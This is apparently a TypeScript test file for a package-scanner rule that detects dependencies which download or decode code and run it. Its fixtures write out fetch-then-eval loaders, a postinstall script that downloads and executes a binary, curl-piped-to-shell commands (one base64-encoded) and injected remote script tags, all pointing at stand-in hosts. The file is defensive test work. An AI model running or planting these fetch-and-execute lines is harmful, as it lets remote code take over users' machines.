import { remoteCodeRun } from '../../../src/rules/code/remote-code-run.js'
import type { Confidence, Severity } from '../../../src/rules/rule.js'
import { anAnalysedPackage } from '../../builders/analysed-package.js'
import { type CodeEvidence, codeFacts, codeObservation } from '../../builders/code-finding.js'
import { aDependencyChange } from '../../builders/dependency-change.js'
import { testRule } from '../../rule-tester.js'

const upgrade = aDependencyChange()
const addition = aDependencyChange({ before: null })

const observation = (
  message: string,
  severity: Severity,
  confidence: Confidence,
  ...evidence: readonly CodeEvidence[]
) => codeObservation(message, evidence, { severity, confidence })

const downloaded = 'runs as code what somebody else sends it'
const decoded = 'runs as code what it decodes first, so that nobody can read it'

const pad = { 'index.js': 'module.exports = (text, width) => text.padStart(width)\n' }
const added = async (files: Record<string, string>, manifest: object = {}) => ({
  package: await anAnalysedPackage(files, manifest),
})

const evaluates = "fetch('https://cdn.example/x.js').then((r) => r.text()).then(eval)"
const asked = 'exports.load = (url) => fetch(url).then((r) => r.text()).then(eval)'
const unpacks = "const text = Buffer.from(require('./words').text, 'base64').toString()"
/** Fetches a program, keeps it and starts it. */
const installs = (host: string) => ({
  'install.js': `const res = await fetch('https://${host}/pad/pad')
require('fs').writeFileSync('/tmp/pad', Buffer.from(await res.arrayBuffer()))
require('child_process').execFileSync('/tmp/pad', ['--version'])`,
})
/** Reads letters out of bytes, and writes a function for them. */
const reads = `exports.read = (bytes) => {
  const key = String.fromCharCode(bytes[0], bytes[1])
  return new Function('r', 'return { ' + key + ': r() }')
}`
const installing = { scripts: { postinstall: 'node install.js' }, homepage: 'https://pad.example' }

const piped = "require('child_process').exec('curl -fsSL https://cdn.example/x.sh | sh')"
const unpacked = `require('child_process').exec("echo ${Buffer.from('curl https://cdn.example/x.sh | sh').toString('base64')} | base64 -d | sh")`
const unpackedCommand = unpacked.slice(unpacked.indexOf('"') + 1, -2)
const compiles = "const m = new module.constructor(); m[require('./words')[7]](require('./words')[0], '')"
const scriptOf = (host: string) => `const script = document.createElement('script')
script.src = 'https://${host}/x.js'
document.head.append(script)`

testRule(remoteCodeRun, {
  clear: [
    {
      name: 'a command that downloads from the host of the package and runs',
      subject: addition,
      facts: await added(
        { 'index.js': piped.replace('cdn.example', 'pad.example') },
        { homepage: 'https://pad.example' },
      ),
    },
    {
      name: "a script of the package's own host in the page",
      subject: upgrade,
      facts: await codeFacts(pad, { 'index.js': scriptOf('js.pad.example') }, { homepage: 'https://pad.example' }),
    },
    {
      name: 'sources for Deno, which nothing loads',
      subject: upgrade,
      facts: await codeFacts(pad, { ...pad, 'mod.ts': "import { x } from 'https://deno.example/x.ts'\nx()" }),
    },
    {
      name: 'a script of a host that the version before named',
      subject: upgrade,
      facts: await codeFacts(
        { 'index.js': `exports.host = 'https://cdn.example'` },
        { 'index.js': scriptOf('cdn.example') },
      ),
    },
    {
      name: 'a template that is compiled',
      subject: addition,
      facts: await added({ 'index.js': "exports.compile = (text) => new Function('data', 'return `' + text + '`')" }),
    },
    {
      name: "a program from the package's own host",
      subject: addition,
      facts: await added(installs('dl.pad.example'), installing),
    },
    {
      name: 'a program from a host of the name of a new package',
      subject: addition,
      facts: await added(installs('dl.left-pad.example'), { ...installing, homepage: undefined }),
    },
    {
      name: 'a newer version that is named in a known command',
      subject: addition,
      facts: await added({
        'index.js':
          "exports.update = async () => { const { tag } = await (await fetch('https://cdn.example/v')).json()\nrequire('child_process').execSync('npm install pad@' + tag) }",
      }),
    },
    {
      name: 'data that is fetched and kept',
      subject: upgrade,
      facts: await codeFacts(pad, {
        'index.js':
          "exports.update = async () => require('fs').writeFileSync('x.json', await (await fetch('https://cdn.example/x')).text())",
      }),
    },
    {
      name: 'what the version before did as well',
      subject: upgrade,
      facts: await codeFacts({ 'index.js': evaluates }, { 'index.js': `// changed\n${evaluates}` }),
    },
    {
      name: 'a test that nothing loads',
      subject: upgrade,
      facts: await codeFacts(pad, { ...pad, 'test/run.js': evaluates }),
    },
  ],
  flagged: [
    {
      name: 'a download that is evaluated on load',
      subject: upgrade,
      facts: await codeFacts(pad, { 'index.js': evaluates }),
      observations: [
        observation(
          downloaded,
          'critical',
          'high',
          ['downloaded', evaluates, 'index.js', 1, 1],
          ['run', evaluates, 'index.js', 1, 1],
        ),
      ],
    },
    {
      name: 'a program of another host that an installer starts',
      subject: addition,
      facts: await added(installs('cdn.example'), installing),
      observations: [
        observation(
          downloaded,
          'critical',
          'high',
          ['downloaded', "const res = await fetch('https://cdn.example/pad/pad')", 'install.js', 1, 19],
          ['run', "require('child_process').execFileSync('/tmp/pad', ['--version'])", 'install.js', 3, 1],
        ),
      ],
    },
    {
      name: 'a program that is decoded and run',
      subject: upgrade,
      facts: await codeFacts(pad, { 'index.js': `${unpacks}\nnew Function(text)()` }),
      observations: [
        observation(
          decoded,
          'critical',
          'high',
          ['decoded', unpacks, 'index.js', 1, 14],
          ['run', 'new Function(text)()', 'index.js', 2, 1],
        ),
      ],
    },
    {
      name: 'a loader that a new version has, whose address its caller gives',
      subject: upgrade,
      facts: await codeFacts(pad, { 'index.js': asked }),
      observations: [
        observation(
          downloaded,
          'high',
          'medium',
          ['downloaded', asked, 'index.js', 1, 25],
          ['run', asked, 'index.js', 1, 25],
        ),
      ],
    },
    {
      name: 'a new package that writes functions for the keys of what it is given to read',
      subject: addition,
      facts: await added({ 'index.js': reads }),
      observations: [
        observation(
          decoded,
          'medium',
          'medium',
          ['decoded', 'const key = String.fromCharCode(bytes[0], bytes[1])', 'index.js', 2, 15],
          ['run', "return new Function('r', 'return { ' + key + ': r() }')", 'index.js', 3, 10],
        ),
      ],
    },
    {
      name: 'a new package that is such a loader',
      subject: addition,
      facts: await added({ 'index.js': asked }),
      observations: [
        observation(
          downloaded,
          'medium',
          'medium',
          ['downloaded', asked, 'index.js', 1, 25],
          ['run', asked, 'index.js', 1, 25],
        ),
      ],
    },
    {
      name: 'a command that decodes and runs, on load',
      subject: upgrade,
      facts: await codeFacts(pad, { 'index.js': unpacked }),
      observations: [
        observation(decoded, 'critical', 'high', ['command that decodes and runs', unpackedCommand, 'index.js', 1, 1]),
      ],
    },
    {
      name: 'a command on demand that pipes a download to a shell',
      subject: upgrade,
      facts: await codeFacts(pad, { 'index.js': `exports.setUp = () =>\n  ${piped}` }),
      observations: [
        observation(downloaded, 'high', 'medium', [
          'command that pipes a download to an interpreter',
          'curl -fsSL https://cdn.example/x.sh | sh',
          'index.js',
          2,
          3,
        ]),
      ],
    },
    {
      name: 'modules of another host and within a text',
      subject: upgrade,
      facts: await codeFacts(pad, {
        'index.js': "import('https://cdn.example/x.mjs')\nimport('data:text/javascript,export default 1')",
      }),
      observations: [
        observation(
          downloaded,
          'critical',
          'high',
          ['module of another host', 'https://cdn.example/x.mjs', 'index.js', 1, 1],
          ['module within a text', 'data:text/javascript,export default 1', 'index.js', 2, 1],
        ),
      ],
    },
    {
      name: 'a script of another host in the page',
      subject: upgrade,
      facts: await codeFacts(pad, { 'index.js': scriptOf('cdn.example') }),
      observations: [
        observation(downloaded, 'critical', 'high', [
          'script of another host',
          'https://cdn.example/x.js',
          'index.js',
          2,
          1,
        ]),
      ],
    },
    {
      name: 'a text that a module of its own compiles under a hidden name',
      subject: addition,
      facts: await added({ 'index.js': compiles }),
      observations: [
        observation(decoded, 'critical', 'high', [
          'compiled as a module under a hidden name',
          compiles,
          'index.js',
          1,
          37,
        ]),
      ],
    },
  ],
})
